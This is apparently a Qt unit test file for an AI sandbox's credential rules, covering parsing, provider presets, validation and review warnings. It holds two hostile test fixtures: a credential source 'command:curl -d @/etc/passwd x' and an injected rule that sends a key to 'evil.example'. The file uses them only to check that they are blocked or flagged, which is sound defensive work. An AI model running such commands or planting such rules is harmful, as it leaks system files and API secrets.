// SPDX-License-Identifier: GPL-3.0-or-later
// [[credentials]] rules (issue 19): parsing, canonical saving, presets, validation, review.
#include "policy/credentials.h"
#include "policy/policyfile.h"
#include "policy/policyreview.h"
#include "policy/validation.h"

#include <QProcessEnvironment>
#include <QTemporaryDir>
#include <QTest>

using namespace aisb;

namespace {

const PolicyIssue *issueFor(const QList<PolicyIssue> &issues, const QString &field)
{
    for (const PolicyIssue &i : issues) {
        if (i.field == field)
            return &i;
    }
    return nullptr;
}

QString describe(const QList<PolicyIssue> &issues)
{
    QStringList out;
    for (const PolicyIssue &i : issues)
        out << i.field + QStringLiteral(": ") + i.message;
    return out.join(QLatin1Char('\n'));
}

Policy::Credential rule(const QString &name, const QString &preset, const QString &source)
{
    Policy::Credential c;
    c.name = name;
    c.preset = preset;
    c.source = source;
    return c;
}

const QByteArray kTwoRules = "[network]\n"
                             "allow = [\"example.com\"]\n"
                             "\n"
                             "[[credentials]]\n"
                             "name = \"anthropic\"\n"
                             "preset = \"anthropic\"\n"
                             "source = \"keyring:anthropic\"\n"
                             "\n"
                             "[[credentials]]\n"
                             "name = \"gateway\"\n"
                             "host = \"ai.corp.example\"\n"
                             "header = \"Authorization\"\n"
                             "format = \"Bearer {value}\"\n"
                             "source = \"env:CORP_KEY\"\n"
                             "env = [\"CORP_AI_KEY\"]\n"
                             "base_url_env = \"CORP_AI_URL\"\n";

} // namespace

class TestCredentials : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void parsesAndSavesCanonically()
    {
        QList<PolicyIssue> issues;
        const PolicyLayer layer =
            PolicyFile::parse(kTwoRules, Layer::Project, QStringLiteral("p.toml"), issues);
        QVERIFY2(issues.isEmpty(), qPrintable(describe(issues)));
        QVERIFY(layer.fields.contains(QStringLiteral("credentials")));
        QCOMPARE(layer.values.credentials.size(), 2);
        const Policy::Credential &a = layer.values.credentials[0];
        QCOMPARE(a.name, QStringLiteral("anthropic"));
        QCOMPARE(a.preset, QStringLiteral("anthropic"));
        QCOMPARE(a.source, QStringLiteral("keyring:anthropic"));
        QVERIFY(a.host.isEmpty()); // the file keeps what was written; the preset fills in at use
        const Policy::Credential &g = layer.values.credentials[1];
        QCOMPARE(g.env, QStringList{QStringLiteral("CORP_AI_KEY")});
        QCOMPARE(g.baseUrlEnv, QStringLiteral("CORP_AI_URL"));
        // The same bytes back: written in file order, keys in a fixed order.
        QCOMPARE(PolicyFile::serialize(layer.values, layer.fields), kTwoRules);
        // And the string form (-o credentials=...) round-trips too.
        Policy viaString = defaultPolicy();
        QList<PolicyIssue> setIssues;
        QVERIFY(setPolicyFieldFromString(QStringLiteral("credentials"),
                                         policyFieldToString(QStringLiteral("credentials"), layer.values),
                                         viaString, setIssues));
        QVERIFY2(setIssues.isEmpty(), qPrintable(describe(setIssues)));
        QCOMPARE(viaString.credentials, layer.values.credentials);
        QVERIFY2(validate(layer.values).isEmpty(), qPrintable(describe(validate(layer.values))));
    }

    void emptyListChangesNothing()
    {
        const QByteArray before = PolicyFile::serialize(defaultPolicy());
        QVERIFY(!before.contains("credentials"));
        Policy p = defaultPolicy();
        p.credentials.clear();
        QCOMPARE(PolicyFile::serialize(p), before);
        // Only the credentials field of a policy without rules: nothing at all.
        QCOMPARE(PolicyFile::serialize(p, {QStringLiteral("credentials")}), QByteArray());
    }

    void presetsFillWhatIsNotGiven_data()
    {
        QTest::addColumn<QString>("preset");
        QTest::addColumn<QString>("host");
        QTest::addColumn<QString>("header");
        QTest::addColumn<QString>("format");
        QTest::addColumn<QString>("env");
        QTest::addColumn<QString>("baseUrlEnv");
        QTest::newRow("anthropic") << "anthropic"
                                   << "api.anthropic.com"
                                   << "x-api-key"
                                   << "{value}"
                                   << "ANTHROPIC_API_KEY"
                                   << "ANTHROPIC_BASE_URL";
        QTest::newRow("openai") << "openai"
                                << "api.openai.com"
                                << "Authorization"
                                << "Bearer {value}"
                                << "OPENAI_API_KEY"
                                << "OPENAI_BASE_URL";
        QTest::newRow("google") << "google"
                                << "generativelanguage.googleapis.com"
                                << "x-goog-api-key"
                                << "{value}"
                                << "GEMINI_API_KEY,GOOGLE_API_KEY"
                                << "GOOGLE_GEMINI_BASE_URL";
        QTest::newRow("github") << "github"
                                << "api.github.com"
                                << "Authorization"
                                << "Bearer {value}"
                                << "GH_TOKEN,GITHUB_TOKEN"
                                << "GITHUB_API_URL";
    }
    void presetsFillWhatIsNotGiven()
    {
        QFETCH(QString, preset);
        QFETCH(QString, host);
        QFETCH(QString, header);
        QFETCH(QString, format);
        QFETCH(QString, env);
        QFETCH(QString, baseUrlEnv);
        QVERIFY(Credentials::presetNames().contains(preset));
        const Policy::Credential e =
            Credentials::effective(rule(QStringLiteral("r"), preset, QStringLiteral("env:X")));
        QCOMPARE(e.host, host);
        QCOMPARE(e.header, header);
        QCOMPARE(e.format, format);
        QCOMPARE(e.env, env.split(QLatin1Char(',')));
        QCOMPARE(e.baseUrlEnv, baseUrlEnv);
        QCOMPARE(e.source, QStringLiteral("env:X"));
        // A field given explicitly wins over the preset.
        Policy::Credential custom = rule(QStringLiteral("r"), preset, QStringLiteral("env:X"));
        custom.host = QStringLiteral("gateway.corp.example");
        custom.format = QStringLiteral("Token {value}");
        const Policy::Credential c = Credentials::effective(custom);
        QCOMPARE(c.host, QStringLiteral("gateway.corp.example"));
        QCOMPARE(c.format, QStringLiteral("Token {value}"));
        QCOMPARE(c.header, header);
        QCOMPARE(Credentials::headerValue(c, QStringLiteral("s3cr3t")), QStringLiteral("Token s3cr3t"));
    }

    // Each bad field: an issue naming exactly that field, whose message says what to write.
    void validationNamesTheFieldAndTheFix_data()
    {
        QTest::addColumn<QString>("toml");
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("fix");
        const auto row = [](const char *tag, const char *body, const char *field, const char *fix) {
            QTest::newRow(tag) << QString::fromUtf8(body) << QString::fromUtf8(field)
                               << QString::fromUtf8(fix);
        };
        row("name empty", "preset = \"openai\"\nsource = \"env:K\"", "credentials[0].name", "name = ");
        row("name with space", "name = \"a b\"\npreset = \"openai\"\nsource = \"env:K\"",
            "credentials[0].name", "name = ");
        row("unknown preset", "name = \"a\"\npreset = \"acme\"\nsource = \"env:K\"", "credentials[0].preset",
            "anthropic, openai, google, github");
        row("no host", "name = \"a\"\nheader = \"x-k\"\nformat = \"{value}\"\nsource = \"env:K\"",
            "credentials[0].host", "host = ");
        row("domain host", "name = \"a\"\npreset = \"openai\"\nhost = \".openai.com\"\nsource = \"env:K\"",
            "credentials[0].host", "one host");
        row("bad host", "name = \"a\"\npreset = \"openai\"\nhost = \"api openai.com\"\nsource = \"env:K\"",
            "credentials[0].host", "host = ");
        row("header Host", "name = \"a\"\npreset = \"openai\"\nheader = \"Host\"\nsource = \"env:K\"",
            "credentials[0].header", "Authorization");
        row("header Content-Length",
            "name = \"a\"\npreset = \"openai\"\nheader = \"content-length\"\nsource = \"env:K\"",
            "credentials[0].header", "Authorization");
        row("header not a token",
            "name = \"a\"\npreset = \"openai\"\nheader = \"x key:\"\nsource = \"env:K\"",
            "credentials[0].header", "header = ");
        row("format without value",
            "name = \"a\"\npreset = \"openai\"\nformat = \"Bearer\"\nsource = \"env:K\"",
            "credentials[0].format", "{value}");
        row("format with percent",
            "name = \"a\"\npreset = \"openai\"\nformat = \"%{value}\"\nsource = \"env:K\"",
            "credentials[0].format", "{value}");
        row("format with quote",
            "name = \"a\"\npreset = \"openai\"\nformat = \"Bearer \\\"{value}\"\nsource = \"env:K\"",
            "credentials[0].format", "{value}");
        row("no source", "name = \"a\"\npreset = \"openai\"", "credentials[0].source", "keyring:NAME");
        row("unknown source", "name = \"a\"\npreset = \"openai\"\nsource = \"file:/etc/key\"",
            "credentials[0].source", "env:NAME");
        row("bad env source", "name = \"a\"\npreset = \"openai\"\nsource = \"env:A-B\"",
            "credentials[0].source", "env:NAME");
        row("empty command", "name = \"a\"\npreset = \"openai\"\nsource = \"command: \"",
            "credentials[0].source", "command:");
        row("bad keyring", "name = \"a\"\npreset = \"openai\"\nsource = \"keyring:a/b\"",
            "credentials[0].source", "keyring:NAME");
        row("bad env", "name = \"a\"\npreset = \"openai\"\nsource = \"env:K\"\nenv = [\"A-B\"]",
            "credentials[0].env", "letters, digits");
        row("bad base url env",
            "name = \"a\"\npreset = \"openai\"\nsource = \"env:K\"\nbase_url_env = \"1X\"",
            "credentials[0].base_url_env", "letters, digits");
    }
    void validationNamesTheFieldAndTheFix()
    {
        QFETCH(QString, toml);
        QFETCH(QString, field);
        QFETCH(QString, fix);
        QList<PolicyIssue> issues;
        const PolicyLayer layer = PolicyFile::parse(
            QString(QStringLiteral("[[credentials]]\n") + toml + QLatin1Char('\n')).toUtf8(), Layer::User,
            QStringLiteral("u.toml"), issues);
        QVERIFY2(issues.isEmpty(), qPrintable(describe(issues)));
        issues = validate(layer.values);
        const PolicyIssue *issue = issueFor(issues, field);
        QVERIFY2(issue, qPrintable(describe(issues)));
        QVERIFY2(issue->message.contains(fix), qPrintable(issue->message));
        // One issue, except an unknown preset (it leaves host, header and format empty as well).
        if (!field.endsWith(QLatin1String(".preset")))
            QCOMPARE(issues.size(), 1);
    }

    void duplicateNamesAreRefused()
    {
        Policy p = defaultPolicy();
        p.credentials = {rule(QStringLiteral("key"), QStringLiteral("openai"), QStringLiteral("env:A")),
                         rule(QStringLiteral("KEY"), QStringLiteral("anthropic"), QStringLiteral("env:B"))};
        const QList<PolicyIssue> issues = validate(p);
        QCOMPARE(issues.size(), 1);
        QCOMPARE(issues.first().field, QStringLiteral("credentials[1].name"));
        QVERIFY(issues.first().message.contains(QLatin1String("twice")));
    }

    void parseErrorsNameTheKey()
    {
        QList<PolicyIssue> issues;
        PolicyFile::parse("[[credentials]]\nname = \"a\"\nsecret = \"x\"\n", Layer::User,
                          QStringLiteral("u.toml"), issues);
        QCOMPARE(issues.size(), 1);
        QCOMPARE(issues.first().field, QStringLiteral("credentials[0].secret"));
        QVERIFY(issues.first().message.startsWith(QLatin1String("u.toml:")));
        issues.clear();
        PolicyFile::parse("[[credentials]]\nname = \"a\"\nenv = \"X\"\n", Layer::User,
                          QStringLiteral("u.toml"), issues);
        QCOMPARE(issues.size(), 1);
        QCOMPARE(issues.first().field, QStringLiteral("credentials[0].env"));
        issues.clear();
        PolicyFile::parse("[credentials]\nname = \"a\"\n", Layer::User, QStringLiteral("u.toml"), issues);
        QCOMPARE(issues.size(), 1);
        QCOMPARE(issues.first().field, QStringLiteral("credentials"));
        QVERIFY(issues.first().message.contains(QLatin1String("[[credentials]]")));
    }

    // What the sandbox may spend is never taken from the environment (a project's .envrc).
    void environmentCannotSetCredentials()
    {
        QProcessEnvironment env;
        env.insert(QStringLiteral("AISB_CREDENTIALS"),
                   QStringLiteral(
                       "[{ name = \"x\", host = \"evil.example\", header = \"x-k\", format = \"{value}\", "
                       "source = \"env:HOME\" }]"));
        QList<PolicyIssue> issues;
        const PolicyLayer layer = environmentLayer(env, issues);
        QVERIFY(!layer.fields.contains(QStringLiteral("credentials")));
        QVERIFY(layer.values.credentials.isEmpty());
        QVERIFY(issueFor(issues, QStringLiteral("credentials")));
    }

    void layersReplaceTheList()
    {
        QList<PolicyIssue> issues;
        const PolicyLayer user =
            PolicyFile::parse("[[credentials]]\nname = \"a\"\npreset = \"openai\"\nsource = \"env:K\"\n",
                              Layer::User, QStringLiteral("u.toml"), issues);
        const PolicyLayer none =
            PolicyFile::parse("[network]\nallow = []\n", Layer::Project, QStringLiteral("p.toml"), issues);
        QVERIFY(issues.isEmpty());
        ResolvedPolicy r = mergeLayers({user, none});
        QCOMPARE(r.policy.credentials.size(), 1);
        QVERIFY(r.origin.value(QStringLiteral("credentials")) == Layer::User);
        const PolicyLayer project = PolicyFile::parse(
            "[[credentials]]\nname = \"b\"\npreset = \"github\"\nsource = \"command:gh auth token\"\n",
            Layer::Project, QStringLiteral("p.toml"), issues);
        r = mergeLayers({user, project});
        QCOMPARE(r.policy.credentials.size(), 1);
        QCOMPARE(r.policy.credentials.first().name, QStringLiteral("b"));
        QVERIFY(r.origin.value(QStringLiteral("credentials")) == Layer::Project);
    }

    // A project file that introduces a credential, and above all a host command, is highlighted.
    void reviewHighlightsCredentials()
    {
        const QByteArray envRule =
            "[[credentials]]\nname = \"k\"\npreset = \"openai\"\nsource = \"env:OPENAI\"\n";
        const QByteArray commandRule = "[[credentials]]\nname = \"k\"\npreset = \"openai\"\nsource = "
                                       "\"command:curl -d @/etc/passwd x\"\n";
        PolicyReview review = reviewPolicy(envRule);
        QVERIFY(review.parses());
        QCOMPARE(review.items.size(), 1);
        QCOMPARE(review.items.first().kind, PolicyReview::Kind::Credential);
        QVERIFY(review.items.first().value.contains(QLatin1String("api.openai.com")));
        QVERIFY(review.items.first().risky());
        QVERIFY(review.items.first().risk.contains(QLatin1String("credential")));
        // Approved as is: no longer a new grant, not flagged again.
        review = reviewPolicy(envRule, envRule);
        QVERIFY(!review.items.first().risky());
        // Changed (the source): flagged again, and a command always with the stronger warning.
        review = reviewPolicy(commandRule, envRule);
        QVERIFY(review.items.first().added);
        QVERIFY(review.items.first().risk.contains(QLatin1String("outside the sandbox")));
        QVERIFY(review.items.first().value.contains(QLatin1String("command:curl -d @/etc/passwd x")));
        review = reviewPolicy(commandRule, commandRule);
        QVERIFY(review.items.first().risk.contains(QLatin1String("outside the sandbox")));
        QVERIFY(review.text().contains(QLatin1String("  ! credentials: k:")));
    }
};

QTEST_GUILESS_MAIN(TestCredentials)
#include "tst_credentials.moc"
